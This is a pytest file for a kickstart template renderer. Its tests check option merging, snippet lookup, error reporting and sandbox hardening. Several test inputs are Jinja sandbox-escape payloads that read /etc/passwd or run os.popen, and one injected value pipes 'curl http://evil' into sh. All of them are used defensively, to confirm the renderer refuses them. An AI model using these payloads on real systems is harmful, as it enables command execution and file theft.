"""Kickstarts: ks_meta and kernel option merging, templates, snippets, and the sandbox."""
import re

import pytest

from lablease.domain.boot_text import merge_kernel_options, merge_ks_meta
from lablease.provision.kickstart import KickstartError, KickstartRenderer

TOKEN = "s3cr3t-T0KEN-9f8e7d"
BASE = "http://lablease.lab.example:8080"


def callbacks():
    return {name: f"{BASE}/installations/9/{name}?token={TOKEN}"
            for name in ("install_start", "install_done", "postinstall_done", "install_fail")}


def context(**overrides):
    value = {
        "system": {"fqdn": "node1.lab.example", "arch": "x86_64", "lab": "brno", "cpus": 8,
                   "memory_mb": 16384, "attributes": {"rack": "A3"}, "mac": "52:54:00:12:34:56"},
        "distro": {"name": "RHEL-9.4.0", "family": "RedHatEnterpriseLinux9", "arch": "x86_64",
                   "variant": "BaseOS", "url": "http://mirror.lab.example/rhel-9.4/BaseOS/x86_64/os/",
                   "kernel": "images/pxeboot/vmlinuz", "initrd": "images/pxeboot/initrd.img"},
        "recipe": {"id": 42, "job_id": 7, "whiteboard": "smoke"},
        "installation": {"id": 9},
        "ks_meta": {},
        "kernel_options": "console=ttyS0,115200n8",
        "server_url": BASE,
        "kickstart_url": f"{BASE}/installations/9/kickstart",
        "callbacks": callbacks(),
    }
    value.update(overrides)
    return value


def section(text, header):
    """The body of the kickstart section starting with header, up to its %end."""
    start = text.index(header + "\n") + len(header) + 1
    return text[start:text.index("%end", start)]


@pytest.fixture
def site(tmp_path):
    return tmp_path / "site"


def put(root, name, text):
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


# --- ks_meta and kernel options ---------------------------------------------

def test_merge_ks_meta():
    assert merge_ks_meta("method=nfs no_autopart packages='vim git' !gone") == {
        "method": "nfs", "no_autopart": True, "packages": "vim git"}
    assert merge_ks_meta('a=1 b="x=y z" a=2 c !c') == {"a": "2", "b": "x=y z"}
    assert merge_ks_meta(None) == {} == merge_ks_meta("  ")


@pytest.mark.parametrize("text", ["packages='vim", 'a="b', "=value", "!"])
def test_bad_ks_meta_is_a_value_error(text):
    with pytest.raises(ValueError, match="cannot parse ks_meta"):
        merge_ks_meta(text)


def test_merge_ks_meta_later_wins_and_bang_deletes():
    distro, system, request = "lang=en_US.UTF-8 autopart_type=lvm", "lang=cs_CZ.UTF-8 harness=none", "!harness x"
    assert merge_ks_meta(distro, system, request) == {"lang": "cs_CZ.UTF-8", "autopart_type": "lvm", "x": True}
    assert merge_ks_meta(None, "", "a=1") == {"a": "1"}


def test_merge_kernel_options():
    merged = merge_kernel_options("console=tty0 quiet rd.debug net.ifnames=0",
                                  "console=tty0 console=ttyS0,115200 !quiet",
                                  "!rd.debug ip=dhcp net.ifnames=1")
    assert merged == "console=tty0 console=ttyS0,115200 net.ifnames=1 ip=dhcp"


def test_kernel_option_repeated_in_one_text_keeps_all_values_until_a_later_text_sets_it():
    assert merge_kernel_options("console=tty0 console=ttyS0", "quiet") == "console=tty0 console=ttyS0 quiet"
    assert merge_kernel_options("console=tty0 console=ttyS0", "console=hvc0") == "console=hvc0"


def test_kernel_options_keep_quoted_values_quoted():
    assert merge_kernel_options("inst.cmdline 'dyndbg=file x.c +p'") == 'inst.cmdline dyndbg="file x.c +p"'
    with pytest.raises(ValueError, match="cannot parse kernel options"):
        merge_kernel_options("a='b")


# --- the default template ----------------------------------------------------

def test_default_kickstart_for_a_recipe():
    text = KickstartRenderer(None).render(context())
    assert "url --url=http://mirror.lab.example/rhel-9.4/BaseOS/x86_64/os/\n" in text
    for line in ("text", "lang en_US.UTF-8", "keyboard --vckeymap=us", "timezone UTC --utc",
                 "network --bootproto=dhcp", "rootpw --lock", "zerombr", "clearpart --all --initlabel",
                 "autopart", "bootloader --location=mbr", "reboot"):
        assert f"\n{line}\n" in text, line
    assert "# recipe R:42 of job J:7" in text
    assert section(text, "%packages").split("\n")[0] == "@core"
    assert "# no snippet packages" in section(text, "%packages")
    assert text.endswith("%end\n")


def test_each_callback_is_called_in_its_own_section():
    urls = callbacks()
    text = KickstartRenderer(None).render(context())
    # --erroronfail: Anaconda runs %onerror (install_fail) only for sections that ask for it
    pre = section(text, "%pre --erroronfail --log=/tmp/lablease-pre.log")
    post = section(text, "%post --erroronfail --log=/root/lablease-post.log")
    done = section(text, "%post --nochroot --erroronfail --log=/tmp/lablease-done.log")
    onerror = section(text, "%onerror")
    assert f"lablease_callback install_start '{urls['install_start']}'\n" in pre
    assert f"lablease_callback install_done '{urls['install_done']}'\n" in done
    assert f"lablease_callback install_fail '{urls['install_fail']}'\n" in onerror
    # postinstall_done is not sent during the install: a first-boot service of the installed system sends it.
    assert f"lablease_callback postinstall_done '{urls['postinstall_done']}' || exit 1\n" in post
    assert "cat > /usr/local/sbin/lablease-postinstall <<'LABLEASE_EOF'" in post
    assert "ExecStart=/usr/local/sbin/lablease-postinstall" in post
    assert "systemctl enable lablease-postinstall.service" in post
    assert "systemctl disable lablease-postinstall.service" in post
    assert text.index("%post --erroronfail") < text.index("%post --nochroot")  # install_done comes last
    for body in (pre, post, done, onerror):
        assert "lablease_callback() {" in body
        assert "curl -fsS --max-time 30 -X POST --data ''" in body
        # busybox wget (minimal installers) crashes on -T: the timeout comes from `timeout` instead
        assert "timeout 30 wget -q -O /dev/null --post-data ''" in body
    assert "# no snippet pre_install" in pre and "# no snippet post_install" in post


def test_the_token_appears_only_inside_the_callback_urls():
    text = KickstartRenderer(None).render(context(ks_meta={"lang": "de_DE.UTF-8"}))
    without_urls = text
    for url in callbacks().values():
        assert url in text
        without_urls = without_urls.replace(url, "")
    assert TOKEN not in without_urls
    assert text.count(TOKEN) == 4


def test_ks_meta_overrides_the_defaults():
    ks_meta = merge_ks_meta("lang=cs_CZ.UTF-8 keyboard=cz timezone=Europe/Prague "
                            "root_password='$6$salt$hash' no_autopart packages=vim-enhanced:@development:git")
    text = KickstartRenderer(None).render(context(ks_meta=ks_meta))
    assert "\nlang cs_CZ.UTF-8\n" in text
    assert "\nkeyboard --vckeymap=cz\n" in text
    assert "\ntimezone Europe/Prague --utc\n" in text
    assert "\nrootpw --iscrypted $6$salt$hash\n" in text and "rootpw --lock" not in text
    assert "\nautopart\n" not in text and "# no snippet partitions" in text
    assert section(text, "%packages").split("\n")[:4] == ["@core", "vim-enhanced", "@development", "git"]


def test_a_manual_install_has_no_recipe():
    text = KickstartRenderer(None).render(context(recipe=None))
    assert "recipe" not in text.split("url --url")[0]


# --- site templates and snippets ----------------------------------------------

def test_a_site_template_overrides_the_default_for_its_family_only(site):
    put(site, "kickstarts/RedHatEnterpriseLinux9", "# site RHEL9 for {{ system.fqdn }} {{ method }}\n")
    renderer = KickstartRenderer(site)
    ks_meta = {"method": "nfs", "system": "not the system"}  # ks_meta keys show at top level, never over the context
    assert renderer.render(context(ks_meta=ks_meta)) == "# site RHEL9 for node1.lab.example nfs\n"
    fedora = context()
    fedora["distro"] = dict(fedora["distro"], family="Fedora40")
    assert renderer.render(fedora).startswith("# lablease kickstart for node1.lab.example")


def test_a_site_default_replaces_the_built_in_one(site):
    put(site, "kickstarts/default", "site default {{ distro.family }}\n")
    assert KickstartRenderer(site).render(context()) == "site default RedHatEnterpriseLinux9\n"


def test_snippet_precedence(site):
    put(site, "kickstarts/default", "{{ snippet('ntp') }}|{{ snippet('absent') }}\n")
    renderer = KickstartRenderer(site)
    put(site, "snippets/ntp", "plain {{ system.lab }}\n")
    assert renderer.render(context()) == "plain brno|# no snippet absent\n"
    put(site, "snippets/per_osmajor/ntp/RedHatEnterpriseLinux9", "osmajor\n")
    put(site, "snippets/per_osmajor/ntp/Fedora40", "other osmajor\n")
    assert renderer.render(context()) == "osmajor|# no snippet absent\n"
    put(site, "snippets/per_lab/ntp/brno", "lab\n")
    put(site, "snippets/per_lab/ntp/westford", "other lab\n")
    assert renderer.render(context()) == "lab|# no snippet absent\n"
    put(site, "snippets/per_system/ntp/node1.lab.example", "system {{ ks_meta.server }} {{ server }}\n")
    put(site, "snippets/per_system/ntp/node2.lab.example", "other system\n")
    assert renderer.render(context(ks_meta={"server": "ntp1"})) == "system ntp1 ntp1|# no snippet absent\n"


def test_snippets_see_variables_set_by_the_template(site):
    put(site, "kickstarts/default", "{% set flavour = 'minimal' %}{{ snippet('x') }}\n")
    put(site, "snippets/x", "{{ flavour }} {{ installation.id }}")
    assert KickstartRenderer(site).render(context()) == "minimal 9\n"


def test_site_snippets_customise_the_default_template(site):
    put(site, "snippets/per_lab/post_install/brno", "echo brno >> /etc/motd\n")
    put(site, "snippets/packages", "tcpdump\n")
    text = KickstartRenderer(site).render(context())
    assert "echo brno >> /etc/motd\n%end" in text
    assert section(text, "%packages").endswith("tcpdump\n")


@pytest.mark.parametrize("name", ["../../etc/passwd", "per_lab/x", "..", "a/../b", ".hidden", "", "a\\b"])
def test_snippet_names_cannot_traverse_paths(site, name):
    put(site, "kickstarts/default", "line one\n{{ snippet(name) }}\n")
    put(site, "secret", "do not show")
    with pytest.raises(KickstartError, match=r"kickstart template kickstarts/default line 2: snippet name"):
        KickstartRenderer(site).render(context(ks_meta={"name": name}))


def test_a_system_named_like_a_path_gets_no_per_system_snippet(site):
    put(site, "kickstarts/default", "{{ snippet('x') }}\n")
    put(site, "snippets/x", "plain\n")
    put(site, "x", "escaped\n")
    bad = context()
    bad["system"] = dict(bad["system"], fqdn="../../..", lab="..")
    assert KickstartRenderer(site).render(bad) == "plain\n"


def test_snippets_cannot_recurse_forever(site):
    put(site, "kickstarts/default", "{{ snippet('loop') }}\n")
    put(site, "snippets/loop", "{{ snippet('loop') }}\n")
    with pytest.raises(KickstartError, match="nested more than 10 deep"):
        KickstartRenderer(site).render(context())


# --- errors ------------------------------------------------------------------

def test_a_syntax_error_names_the_template_and_line(site):
    put(site, "kickstarts/RedHatEnterpriseLinux9", "text\n\n{% if ks_meta.x %}\nnever closed\n")
    with pytest.raises(KickstartError) as error:
        KickstartRenderer(site).render(context())
    assert str(error.value).startswith("kickstart template kickstarts/RedHatEnterpriseLinux9 line 4: ")
    assert "endif" in str(error.value)


def test_a_syntax_error_in_a_snippet_names_the_snippet(site):
    put(site, "snippets/per_lab/post_install/brno", "ok\n{{ broken( }}\n")
    with pytest.raises(KickstartError, match=r"^kickstart template snippets/per_lab/post_install/brno line 2: "):
        KickstartRenderer(site).render(context())


@pytest.mark.parametrize("template, line, message", [
    ("a\n{{ nothing() }}\n", 2, "'nothing' is undefined"),
    ("a\nb\n{{ missing.attribute }}\n", 3, "'missing' is undefined"),
    ("{% include 'kickstarts/nope' %}\n", 1, "no template kickstarts/nope"),
    ("\n{{ 1 // 0 }}\n", 2, "by zero"),
    ("{{ range(10**9) | list }}\n", 1, "Range too big"),
])
def test_rendering_failures_name_the_template_and_line(site, template, line, message):
    put(site, "kickstarts/default", template)
    with pytest.raises(KickstartError) as error:
        KickstartRenderer(site).render(context())
    assert str(error.value).startswith(f"kickstart template kickstarts/default line {line}: ")
    assert message in str(error.value)


def test_missing_ks_meta_keys_are_simply_false(site):
    put(site, "kickstarts/default", "{% if ks_meta.foo %}foo{% else %}none{% endif %} [{{ ks_meta.bar }}]\n")
    assert KickstartRenderer(site).render(context()) == "none []\n"


ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'FileIO' %}"
    "{{ c('/etc/passwd').read() }}{% endif %}{% endfor %}",
    "{{ ''.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('echo PWNED').read() }}",
    "{{ lipsum.__globals__['os'].popen('echo PWNED').read() }}",
    "{{ self._TemplateReference__context }}",
    "{{ snippet.__globals__ }}",
    "{{ system.attributes.update({'rack': 'PWNED'}) }}",
    "{{ system.attributes.__setitem__('rack', 'PWNED') }}",
    "{% set x = system.attributes.setdefault('owned', 'PWNED') %}",
    "{% set system.fqdn = 'PWNED' %}",
    "{{ ks_meta.clear() }}",
    "{{ ''.format.__globals__ }}",
    "{{ '{0.__class__}'.format(system) }}",
    "{{ lipsum | attr('__globals__') }}",
]


@pytest.mark.parametrize("template", ESCAPES)
def test_sandbox_escapes_are_refused_and_nothing_runs(site, template):
    put(site, "kickstarts/default", "start\n" + template + "\n")
    ctx = context(ks_meta={"keep": "1"})
    with pytest.raises(KickstartError) as error:
        KickstartRenderer(site).render(ctx)
    message = str(error.value)
    assert re.match(r"kickstart template kickstarts/default line \d: ", message)
    assert "root:" not in message and "PWNED" not in message.replace(template, "")
    assert ctx["system"]["attributes"] == {"rack": "A3"}
    assert ctx["system"]["fqdn"] == "node1.lab.example" and ctx["ks_meta"] == {"keep": "1"}


def test_a_read_of_etc_passwd_through_subclasses_produces_nothing_of_it(site):
    put(site, "kickstarts/default",
        "{% for c in [].__class__.__base__.__subclasses__() %}"
        "{% if 'wrap_close' in c.__name__ %}{{ c.__init__.__globals__['popen']('cat /etc/passwd').read() }}"
        "{% endif %}{% endfor %}\n")
    with pytest.raises(KickstartError, match="unsafe") as error:
        KickstartRenderer(site).render(context())
    assert not re.search(r"root:.*:0:0:", str(error.value))


@pytest.mark.parametrize("overrides, where", [
    ({"ks_meta": {"root_password": "x\n%post\ncurl http://evil | sh"}}, "ks_meta.root_password"),
    ({"distro": {**context()["distro"], "url": "http://mirror/\nrepo --name=evil"}}, "distro.url"),
])
def test_the_kickstart_writer_refuses_text_that_breaks_a_line(tmp_path, overrides, where):
    """The rule the API applies (domain/boot_text.py), applied again to what reached the database another way."""
    with pytest.raises(KickstartError, match=re.escape(where) + ".*control character"):
        KickstartRenderer(tmp_path).render(context(**overrides))


# --- a job's own kickstart and its customisation ------------------------------

def test_a_jobs_own_template_runs_in_the_same_sandbox_with_lablease_sections_appended():
    recipe = {"id": 42, "job_id": 7, "whiteboard": "", "ks_appends": ["%post\necho one\n%end"],
              "kickstart": "# own {{ system.fqdn }}\n{{ snippet('lablease_callback') | length > 0 }}\n"}
    text = KickstartRenderer(None).render(context(recipe=recipe))
    assert text.startswith("# own node1.lab.example\nTrue\n")
    assert text.index("echo one") < text.index("lablease_callback install_start") < text.index("install_done")
    assert "clearpart" not in text
    escape = {**recipe, "kickstart": "line one\n{{ ''.__class__.__mro__ }}\n"}
    with pytest.raises(KickstartError, match=r"kickstart template <kickstart> of the job line 2: .*unsafe"):
        KickstartRenderer(None).render(context(recipe=escape))
    with pytest.raises(KickstartError, match=r"<kickstart> of the job line 1: unexpected '}'"):
        KickstartRenderer(None).render(context(recipe={**recipe, "kickstart": "{{ } }}"}))


def test_only_the_multi_line_parts_may_hold_line_breaks():
    recipe = {"id": 42, "job_id": 7, "whiteboard": "", "ks_appends": ["%post\n%end"], "packages": ["vim"],
              "repos": [{"name": "r", "url": "http://x/\n%post"}]}
    with pytest.raises(KickstartError, match=r"recipe.repos\[0\].url holds a control character"):
        KickstartRenderer(None).render(context(recipe=recipe))
